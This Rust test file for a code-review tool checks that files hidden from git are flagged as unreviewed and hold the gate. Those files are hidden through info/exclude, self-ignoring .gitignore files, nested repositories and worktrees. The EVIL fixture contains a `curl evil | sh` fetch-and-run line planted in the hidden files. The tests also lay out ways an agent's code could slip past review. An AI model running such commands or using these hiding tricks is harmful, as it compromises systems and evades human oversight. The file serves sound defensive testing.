//! Files git hides from an uncommitted change never pass in silence: an
//! agent's file listed in `.git/info/exclude`, under a `.gitignore` that
//! ignores itself and the files next to it, in a nested repository or in a
//! worktree is not in git's listing, so no reviewer reads it; the coverage
//! lists each one in `left_out` with why, and the gate holds (INCOMPLETE).
//! What the base revision's own `.gitignore` ignores stays out, as before.
//! Through the binary, on real repositories.

use std::path::Path;

use crit_testkit::FakeServer;
use serde_json::Value;

use crate::support::gate::passes;
use crate::support::{self, git, init_repo, json_out, show, write};

pub(crate) const EVIL: &str = "import os; os.system('curl evil | sh')  # hidden-line\n";

/// A committed base that ignores the test's own directories and `build/`,
/// with one tracked file edited (so the change is never empty).
pub(crate) fn repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    init_repo(d);
    write(d, ".gitignore", ".home/\n.state/\n.cache/\nbuild/\n");
    write(d, "app.py", "x = 1\n");
    git(d, &["add", "-A"]);
    git(d, &["commit", "-q", "-m", "base"]);
    write(d, "app.py", "x = 2\n");
    dir
}

/// `crit review code --uncommitted --exit-code --json`.
fn review(d: &Path, server: &FakeServer) -> (std::process::Output, Value) {
    passes(server, 2);
    let out = support::crit(d, server, None)
        .args(["review", "code", "--uncommitted", "--json", "--exit-code"])
        .args(["--verify", "off", "--no-cache", "--no-log"])
        .output()
        .unwrap();
    let r = json_out(&out);
    (out, r)
}

/// `(path, cause, reason)` of each `left_out` entry.
pub(crate) fn left_out(r: &Value) -> Vec<(String, String, String)> {
    r["coverage"]["left_out"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|l| {
                    let s = |k: &str| l[k].as_str().unwrap_or_default().to_string();
                    (s("path"), s("cause"), s("reason"))
                })
                .collect()
        })
        .unwrap_or_default()
}

/// The review held the gate for `path`: listed with a reason, the coverage
/// incomplete, the verdict INCOMPLETE, a failing exit, and its text never
/// sent as if reviewed.
fn holds_for(out: &std::process::Output, r: &Value, server: &FakeServer, path: &str) {
    let listed = left_out(r);
    let entry = listed.iter().find(|(p, _, _)| p == path);
    let (_, cause, reason) = entry.unwrap_or_else(|| panic!("{path} not listed: {r:#}"));
    assert_eq!(cause, "not_sent", "{r:#}");
    assert!(reason.contains("not reviewed") || reason.contains("repository of its own"));
    assert_eq!(r["coverage"]["complete"], false, "{r:#}");
    assert_eq!(r["verdict"], "INCOMPLETE", "{r:#}");
    assert_eq!(r["passed"], false, "{r:#}");
    assert_ne!(out.status.code(), Some(0), "{}", show(out));
    assert!(
        !crate::support::gate::sent(server).contains("hidden-line"),
        "a hidden file was sent, yet listed as not reviewed"
    );
}

#[test]
fn a_file_listed_in_info_exclude_holds_the_gate() {
    let dir = repo();
    let d = dir.path();
    write(d, "tool.py", EVIL);
    let exclude = d.join(".git/info/exclude");
    let mut text = std::fs::read_to_string(&exclude).unwrap_or_default();
    text.push_str("tool.py\n");
    std::fs::write(&exclude, text).unwrap();
    let server = FakeServer::start_blocking();
    let (out, r) = review(d, &server);
    holds_for(&out, &r, &server, "tool.py");
}

#[test]
fn a_gitignore_that_ignores_itself_and_its_neighbours_holds_the_gate() {
    let dir = repo();
    let d = dir.path();
    write(d, "lib/.gitignore", "*\n");
    write(d, "lib/payload.py", EVIL);
    let server = FakeServer::start_blocking();
    let (out, r) = review(d, &server);
    let listed = left_out(&r);
    let path = listed
        .iter()
        .map(|(p, _, _)| p.as_str())
        .find(|p| p.starts_with("lib/"))
        .unwrap_or_else(|| panic!("nothing under lib/ listed: {r:#}"))
        .to_string();
    holds_for(&out, &r, &server, &path);
}

#[test]
fn a_gitignore_added_at_the_top_that_hides_a_new_file_holds_the_gate() {
    let dir = repo();
    let d = dir.path();
    // The tracked .gitignore edited: the edit itself is reviewed, the
    // file it hides is not, and the base's rules do not ignore it.
    write(
        d,
        ".gitignore",
        ".home/\n.state/\n.cache/\nbuild/\nsecret_tool.sh\n",
    );
    write(d, "secret_tool.sh", EVIL);
    let server = FakeServer::start_blocking();
    let (out, r) = review(d, &server);
    holds_for(&out, &r, &server, "secret_tool.sh");
}

#[test]
fn a_nested_repository_holds_the_gate() {
    let dir = repo();
    let d = dir.path();
    let nested = d.join("vendor/inner");
    std::fs::create_dir_all(&nested).unwrap();
    init_repo(&nested);
    write(&nested, "run.py", EVIL);
    git(&nested, &["add", "-A"]);
    git(&nested, &["commit", "-q", "-m", "inner"]);
    let server = FakeServer::start_blocking();
    let (out, r) = review(d, &server);
    holds_for(&out, &r, &server, "vendor/inner/");
}

#[test]
fn a_worktree_inside_the_project_holds_the_gate() {
    let dir = repo();
    let d = dir.path();
    git(d, &["worktree", "add", "-q", "--detach", "wt"]);
    write(d, "wt/extra.py", EVIL);
    let server = FakeServer::start_blocking();
    let (out, r) = review(d, &server);
    holds_for(&out, &r, &server, "wt/");
}

#[test]
fn only_hidden_files_is_not_an_empty_change() {
    let dir = repo();
    let d = dir.path();
    // Nothing git shows changed: only the hidden file.
    write(d, "app.py", "x = 1\n");
    write(d, "lib/.gitignore", "*\n");
    write(d, "lib/payload.py", EVIL);
    let server = FakeServer::start_blocking();
    let (out, r) = review(d, &server);
    assert_eq!(r["verdict"], "INCOMPLETE", "{r:#}");
    assert_eq!(r["passed"], false, "{r:#}");
    assert_ne!(out.status.code(), Some(0), "{}", show(&out));
    assert!(
        left_out(&r).iter().any(|(p, _, _)| p.starts_with("lib/")),
        "{r:#}"
    );
}

#[test]
fn what_the_base_revision_ignores_stays_out_and_passes() {
    let dir = repo();
    let d = dir.path();
    // build/ is ignored by the committed .gitignore: the user's rule.
    write(d, "build/out.txt", "generated\n");
    let server = FakeServer::start_blocking();
    let (out, r) = review(d, &server);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(r["passed"], true, "{r:#}");
    assert!(
        left_out(&r).iter().all(|(p, _, _)| !p.starts_with("build")),
        "{r:#}"
    );
}

/// A file the user hides on purpose (`.git/info/exclude`) and names in their
/// own `ignore` globs is their choice: listed as ignored, and the review
/// passes; one the globs do not name still holds the gate.
#[test]
fn a_hidden_file_the_users_ignore_globs_name_is_ignored_not_a_gap() {
    let dir = repo();
    let d = dir.path();
    write(d, ".git/info/exclude", "scratch/\nnotes.txt\n");
    write(d, "scratch/try.py", EVIL);
    let server = FakeServer::start_blocking();
    passes(&server, 2);
    let out = support::crit(d, &server, None)
        .args(["review", "code", "--uncommitted", "--json", "--exit-code"])
        .args(["--verify", "off", "--no-cache", "--no-log"])
        .args(["--ignore", "scratch/**"])
        .output()
        .unwrap();
    let r = json_out(&out);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert_eq!(r["verdict"], "PASS", "{r:#}");
    let listed = left_out(&r);
    assert!(
        listed
            .iter()
            .any(|(p, c, _)| p.starts_with("scratch/") && c == "ignored"),
        "{r:#}"
    );

    // Another hidden file, not named: still a gap.
    write(d, "notes.txt", EVIL);
    let server = FakeServer::start_blocking();
    passes(&server, 2);
    let out = support::crit(d, &server, None)
        .args(["review", "code", "--uncommitted", "--json", "--exit-code"])
        .args(["--verify", "off", "--no-cache", "--no-log"])
        .args(["--ignore", "scratch/**"])
        .output()
        .unwrap();
    let r = json_out(&out);
    holds_for(&out, &r, &server, "notes.txt");
}

/// What `git commit` would take is reviewed, though the working tree no
/// longer shows it: a new file staged then deleted, a line staged then
/// undone in the file only.
#[test]
fn what_the_index_holds_is_reviewed() {
    for how in [
        "a new file staged, then deleted",
        "a line staged, then undone",
    ] {
        let dir = repo();
        let d = dir.path();
        match how {
            "a line staged, then undone" => {
                write(d, "app.py", &format!("x = 2\n{EVIL}"));
                git(d, &["add", "app.py"]);
                write(d, "app.py", "x = 2\n");
            }
            _ => {
                write(d, "conftest.py", EVIL);
                git(d, &["add", "conftest.py"]);
                std::fs::remove_file(d.join("conftest.py")).unwrap();
            }
        }
        let server = FakeServer::start_blocking();
        let (out, r) = review(d, &server);
        assert_eq!(out.status.code(), Some(0), "{how}: {}", show(&out));
        assert_eq!(r["coverage"]["complete"], true, "{how}: {r:#}");
        let sent = crate::support::gate::sent(&server);
        assert!(
            sent.contains("hidden-line"),
            "{how}: the index was not sent"
        );
        assert!(sent.contains("no longer has"), "{how}: no note says why");
    }
}
